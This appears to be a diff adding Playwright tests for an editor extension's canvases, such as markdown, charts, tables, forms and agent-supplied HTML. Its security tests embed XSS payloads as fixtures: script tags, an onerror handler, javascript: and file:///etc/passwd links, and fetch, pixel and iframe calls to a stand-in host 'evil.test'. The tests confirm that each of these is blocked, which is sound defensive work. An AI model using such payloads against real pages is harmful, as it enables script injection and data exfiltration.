@@ -1,0 +1,274 @@
+// The built-in canvases, drawn from what the real server says of them.
+import type { Page } from "@playwright/test";
+import { CANVAS_SOURCES } from "../../src/extension/content_security_policy";
+import type { EaselServer } from "./easel_server";
+import { test as base, expect } from "./fixtures";
+import { Panel } from "./panel";
+import { THEMES } from "./themes";
+
+interface Opened {
+  readonly channel: string;
+  readonly conversationId: string;
+  readonly instanceId: string;
+}
+
+interface Canvas {
+  readonly server: EaselServer;
+  /** Open a canvas as an agent does, and show it. */
+  open(canvasId: string, input: object): Promise<Opened>;
+  screenshot(name: string): Promise<void>;
+}
+
+const test = base.extend<{ canvas: Canvas }>({
+  viewport: { width: 900, height: 700 },
+  canvas: async ({ page, host, startServer }, use) => {
+    const server = await startServer();
+    await use({
+      server,
+      async open(canvasId, input) {
+        const { conversation } = await server.request<{ conversation: { id: string } }>(
+          "easel/conversation/create",
+          {},
+        );
+        await server.request("easel/conversation/open", { conversationId: conversation.id });
+        const { channel, instanceId } = await server.request<Opened>("easel/canvas/open", {
+          conversationId: conversation.id,
+          canvasId,
+          extensionId: "easel",
+          input,
+        });
+        const data = { channel, conversation: conversation.id };
+        await host.load(THEMES.dark, { bundle: "canvas", data, more: CANVAS_SOURCES });
+        await host.connect(server);
+        return { channel, instanceId, conversationId: conversation.id };
+      },
+      async screenshot(name) {
+        await page.evaluate(() => {
+          document.documentElement.style.background = "var(--vscode-editor-background)";
+        });
+        await new Panel(page).screenshot(`canvas-${name}`);
+      },
+    });
+  },
+});
+
+/** What reached the network, apart from the page itself. */
+function requestsOf(page: Page): string[] {
+  const urls: string[] = [];
+  page.on("request", (request) => {
+    if (!/^(?:http:\/\/panel\.test\/|data:|blob:)/.test(request.url())) {
+      urls.push(request.url());
+    }
+  });
+  return urls;
+}
+
+const MARKDOWN = `# Release plan
+
+Some **bold** text, a [link](https://example.org) and \`code\`.
+
+| step | who |
+|---|---|
+| build | Ada |
+
+\`\`\`python
+def build(target: str) -> None:
+    print(f"building {target}")
+\`\`\`
+
+\`\`\`mermaid
+flowchart LR
+  A[Edit] --> B{Tests?} -->|green| C[Ship]
+  B -->|red| A
+\`\`\`
+
+- [x] tests
+- [ ] docs
+`;
+
+test("Markdown has code in colours, tables and diagrams", async ({ canvas, page }) => {
+  await canvas.open("markdown", { text: MARKDOWN });
+  await expect(page.getByTestId("diagram")).toBeVisible();
+  await expect(page.locator(".hljs-keyword").first()).toBeVisible();
+  await canvas.screenshot("markdown");
+});
+
+test("a chart is drawn", async ({ canvas, page }) => {
+  await canvas.open("chart", {
+    spec: {
+      mark: "bar",
+      title: "Duration of the tests",
+      data: {
+        values: [
+          { name: "unit", seconds: 12, kind: "fast" },
+          { name: "wire", seconds: 95, kind: "slow" },
+          { name: "editors", seconds: 60, kind: "slow" },
+        ],
+      },
+      encoding: {
+        x: { field: "name", type: "nominal" },
+        y: { field: "seconds", type: "quantitative" },
+        color: { field: "kind", type: "nominal" },
+      },
+    },
+  });
+  await expect(page.getByTestId("chart").locator(".mark-rect path").first()).toBeVisible();
+  await canvas.screenshot("chart");
+});
+
+test("a table is sorted, filtered and paged by the server", async ({ canvas, page }) => {
+  const rows = Array.from({ length: 250 }, (_, at) => [`name ${at}`, at * 7]);
+  await canvas.open("table", {
+    columns: [
+      { key: "name", title: "Name" },
+      { key: "size", title: "Size" },
+    ],
+    rows,
+  });
+  await expect(page.getByTestId("row-count")).toHaveText("250 rows");
+  await page.getByTestId("next-page").click();
+  await expect(page.getByTestId("page")).toHaveText("2 of 5");
+  await page.getByTestId("sort-size").click();
+  await page.getByTestId("sort-size").click();
+  await expect(page.locator("th[aria-sort=descending]")).toContainText("Size");
+  await page.getByTestId("filter").fill("name 24");
+  await expect(page.getByTestId("row-count")).toHaveText("11 of 250 rows");
+  await expect(page.locator("tbody tr").first()).toContainText("name 249");
+  await canvas.screenshot("table");
+});
+
+test("a form is checked, sent, and its answer kept", async ({ canvas, page }) => {
+  const { conversationId } = await canvas.open("form", {
+    message: "Where shall it be **deployed**?",
+    schema: {
+      type: "object",
+      required: ["place"],
+      properties: {
+        place: { type: "string", title: "Place", enum: ["staging", "production"] },
+        replicas: { type: "integer", title: "Replicas", minimum: 1, default: 2 },
+        dry: { type: "boolean", title: "Dry run" },
+      },
+    },
+  });
+  await page.getByTestId("submit").click();
+  await expect(page.getByRole("alert")).toHaveText("Choose one.");
+  await canvas.screenshot("form-problem");
+  await page.getByLabel("Place").selectOption("staging");
+  await page.getByLabel("Dry run").check();
+  await page.getByTestId("submit").click();
+  await expect(page.getByTestId("form-state")).toContainText("Sent to the agent");
+  await canvas.screenshot("form");
+  expect(conversationId).toBeTruthy();
+});
+
+test("a diff shows its lines", async ({ canvas, page }) => {
+  await canvas.open("diff", {
+    files: [{ path: "src/app.py", oldText: "a = 1\nb = 2\n", newText: "a = 1\nb = 3\nc = 4\n" }],
+  });
+  await expect(page.locator(".diff-line.added")).toHaveCount(2);
+  await canvas.screenshot("diff");
+});
+
+test("a plan shows what is done", async ({ canvas, page }) => {
+  await canvas.open("plan", {
+    entries: [
+      { content: "Read the issue", status: "completed" },
+      { content: "Write the test", status: "in_progress", priority: "high" },
+      { content: "Mend it", status: "pending" },
+    ],
+  });
+  await expect(page.getByTestId("plan").locator("li")).toHaveCount(3);
+  await canvas.screenshot("plan");
+});
+
+test("a terminal shows its colours", async ({ canvas, page }) => {
+  await canvas.open("terminal", {
+    command: "make test",
+    output: "\u001b[32m12 passed\u001b[0m, \u001b[31m1 failed\u001b[0m\r\n",
+    exitCode: 1,
+  });
+  await expect(page.locator(".ansi-green-fg")).toHaveText("12 passed");
+  await canvas.screenshot("terminal");
+});
+
+test("a picture is shown, and an SVG runs nothing", async ({ canvas, page }) => {
+  const asked = requestsOf(page);
+  await canvas.open("svg", {
+    svg: `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80"><rect width="120" height="80" fill="teal"/><script>fetch("https://evil.test/")</script></svg>`,
+  });
+  await expect(page.getByTestId("image")).toHaveJSProperty("complete", true);
+  await canvas.screenshot("svg");
+  expect(asked).toEqual([]);
+});
+
+test("script in Markdown does not run, and its links go nowhere by themselves", async ({
+  canvas,
+  host,
+  page,
+}) => {
+  const asked = requestsOf(page);
+  await canvas.open("markdown", {
+    text: `<script>parent.hacked = 1</script><img src=x onerror="parent.hacked = 1">
+
+[run](javascript:parent.hacked=1) [file](file:///etc/passwd) [data](data:text/html,x) [web](https://example.org/)
+
+![picture](https://evil.test/pixel.png)`,
+  });
+  await page.getByText("web", { exact: true }).click();
+  expect(host.called("host/openExternal")).toEqual([
+    { method: "host/openExternal", params: { url: "https://example.org/" } },
+  ]);
+  for (const link of await page.locator("a[data-href]").all()) {
+    expect(await link.getAttribute("href")).toBe("#");
+  }
+  expect(await page.evaluate(() => (globalThis as { hacked?: number }).hacked)).toBeUndefined();
+  expect(asked).toEqual([]);
+});
+
+test("a page of the agent runs in a frame, and reaches nothing but the canvas", async ({
+  canvas,
+  host,
+  page,
+}) => {
+  const asked = requestsOf(page);
+  await canvas.open("html", {
+    html: `<body><h1>Counter</h1><button onclick="document.title = ++count; easel.send({count})">Add</button>
+<p id="facts"></p>
+<script>
+let count = 0;
+const facts = {};
+const attempt = (name, work) => { try { work(); facts[name] = "reached"; } catch { facts[name] = "refused"; } };
+attempt("parent", () => parent.document.body);
+attempt("storage", () => localStorage.length);
+attempt("api", () => acquireVsCodeApi());
+fetch("https://evil.test/?" + count).then(() => { facts.network = "reached"; }, () => { facts.network = "refused"; })
+  .finally(() => { document.getElementById("facts").textContent = JSON.stringify(facts); });
+new Image().src = "https://evil.test/pixel.png";
+document.body.insertAdjacentHTML("beforeend", '<iframe src="https://evil.test/frame"></iframe>');
+</script></body>`,
+  });
+  const frame = page.frameLocator("[data-testid=page-frame]");
+  await expect(frame.locator("#facts")).toHaveText(
+    '{"parent":"refused","storage":"refused","api":"refused","network":"refused"}',
+  );
+  await frame.getByRole("button", { name: "Add" }).click();
+  await expect(frame.getByRole("heading")).toHaveText("Counter");
+  await canvas.screenshot("html");
+  expect(asked).toEqual([]);
+  // The complaints are those of the policy that held.
+  host.complaints.length = 0;
+});
+
+test("a canvas that is updated is drawn anew", async ({ canvas, page }) => {
+  const { channel, conversationId, instanceId } = await canvas.open("markdown", { text: "first" });
+  await expect(page.getByText("first")).toBeVisible();
+  await canvas.server.request("easel/canvas/open", {
+    conversationId,
+    canvasId: "markdown",
+    extensionId: "easel",
+    instanceId,
+    input: { text: "second" },
+  });
+  await expect(page.getByText("second")).toBeVisible();
+  await canvas.server.request("easel/canvas/close", { channel });
+});
